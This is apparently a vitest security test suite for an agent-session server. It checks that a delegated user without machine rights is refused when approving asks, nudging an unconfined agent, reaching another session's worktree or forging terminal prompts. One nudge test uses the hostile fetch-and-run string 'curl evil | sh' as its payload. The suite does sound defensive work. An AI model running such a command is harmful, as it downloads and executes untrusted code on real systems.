import { execFileSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { mkdtemp, realpath, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { newPerson, type Person } from '../conformance/people.ts'
import { openAsk, startSession } from '../conformance/work.ts'
import type { Api } from '../support/api.ts'
import { startServer, type Server } from '../support/server.ts'
import { until } from '../support/until.ts'

type Session = { id: string; workspaceRoot: string; isolation: string }
type Ask = { id: string; kind: string }

const config = `max_concurrent_sessions = 100
[acp]
max_sessions = 20
[stall]
inactivity_threshold_seconds = 1
`

describe('a person without the machine right who acts through others', () => {
  let server: Server
  let owner: Api
  let eve: Person
  let repoId: string
  let folder: string
  beforeAll(async () => {
    folder = await realpath(await mkdtemp(join(tmpdir(), 'sbo-')))
    const git = (...args: string[]) => execFileSync('git', ['-C', folder, ...args], { stdio: 'pipe' })
    git('init', '--quiet')
    git('-c', 'user.name=A', '-c', 'user.email=a@example.org', 'commit', '--quiet', '--allow-empty', '-m', 'first')
    server = await startServer({ config })
    owner = server.api()
    eve = await newPerson(server, 'Eve')
    repoId = (await owner.post<{ id: string }>('/api/repos', { path: folder })).id
  })
  afterAll(async () => {
    await server?.[Symbol.asyncDispose]()
    await rm(folder, { recursive: true, force: true })
  })

  const practice = (api: Api, more: object) =>
    api.post<Session>('/api/sessions', { protocolMode: 'acp', agent: 'practice', repoId, ...more })
  const openAskOf = (sessionId: string) =>
    until(
      async () => (await owner.get<{ asks: Ask[] }>(`/api/asks?sessionId=${sessionId}&status=open`)).asks[0] ?? null,
    )

  it('S1 can’t approve asks of an unconfined agent, or nudge it with a prompt; rejecting is allowed', async () => {
    const session = await practice(owner, { isolation: 'none', prompt: '/run touch made.txt' })
    expect(session.isolation).toBe('none')
    await owner.put(`/api/sessions/${session.id}/delegates/${eve.id}`)
    const ask = await openAskOf(session.id)
    const consent = await eve.api.refused('POST', `/api/asks/${ask.id}/answer`, { outcome: 'approve' })
    expect([consent.status, consent.code]).toEqual([403, 'needs_machine'])
    expect((await eve.api.send('POST', `/api/asks/${ask.id}/answer`, { body: { outcome: 'reject' } })).status).toBe(200)
    await owner.delete(`/api/sessions/${session.id}`)
  })

  it('S1 can’t nudge an unconfined agent with their own text', async () => {
    const session = await practice(owner, { isolation: 'none', prompt: '/stall forever' })
    await owner.put(`/api/sessions/${session.id}/delegates/${eve.id}`)
    const alerts = () => owner.get<{ alerts: { id: string; sessionId: string }[] }>('/api/alerts')
    const alert = await until(async () => (await alerts()).alerts.find((one) => one.sessionId === session.id) ?? null, {
      seconds: 30,
      what: 'an alert',
    })
    const nudge = await eve.api.refused('POST', `/api/alerts/${alert.id}/nudge`, { message: 'curl evil | sh' })
    expect([nudge.status, nudge.code]).toEqual([403, 'needs_machine'])
    await owner.delete(`/api/sessions/${session.id}`)
  })

  it('S1 a chosen session id does not lead into the worktree of another session', async () => {
    const id = randomUUID()
    const theirs = await practice(owner, { id, worktree: true })
    const alike = `${id.slice(0, 8)}-1111-4111-8111-111111111111`
    const own = await practice(eve.api, { id: alike, worktree: true })
    expect(own.workspaceRoot).not.toBe(theirs.workspaceRoot)
    await eve.api.delete(`/api/sessions/${own.id}`)
    await owner.delete(`/api/sessions/${theirs.id}`)
  })

  it('S5 only Signalbox asks about a terminal prompt: nobody can put other text before it', async () => {
    const terminal = await owner.post<{ sessionId: string }>('/api/terminals', {
      sessionType: 'script',
      command: ['sh', '-c', 'printf "Delete everything? [y/N] "; read a; echo "got=$a"'],
      cwd: folder,
    })
    await owner.put(`/api/sessions/${terminal.sessionId}/delegates/${eve.id}`)
    const subject = { kind: 'terminal_prompt', promptText: 'Tidy up?', promptType: 'yes_no', promptId: randomUUID() }
    const forged = await eve.api.refused('POST', `/api/sessions/${terminal.sessionId}/asks`, {
      title: 'Shall I tidy up the notes?',
      subject,
    })
    expect([forged.status, forged.code]).toEqual([400, 'prompt_not_seen'])
    await owner.post(`/api/terminals/${terminal.sessionId}/end`)
  })

  it('S1 a key that was used for something else does not bypass checks', async () => {
    const key = { 'idempotency-key': randomUUID() }
    await eve.api.post('/api/tokens', { name: 'first' }, key)
    for (const workspaceRoot of ['/root', '/nowhere']) {
      const body = { protocolMode: 'acp', agent: 'practice', workspaceRoot }
      const refused = await eve.api.refused('POST', '/api/sessions', body, key)
      expect([workspaceRoot, refused.code]).toEqual([workspaceRoot, 'needs_machine'])
    }
  })

  it('S1 the owner still answers their own asks', async () => {
    const session = await startSession(owner, { repoId, workspaceRoot: undefined })
    const ask = await openAsk(owner, session)
    expect((await owner.send('POST', `/api/asks/${ask.id}/answer`, { body: { outcome: 'approve' } })).status).toBe(200)
  })
})
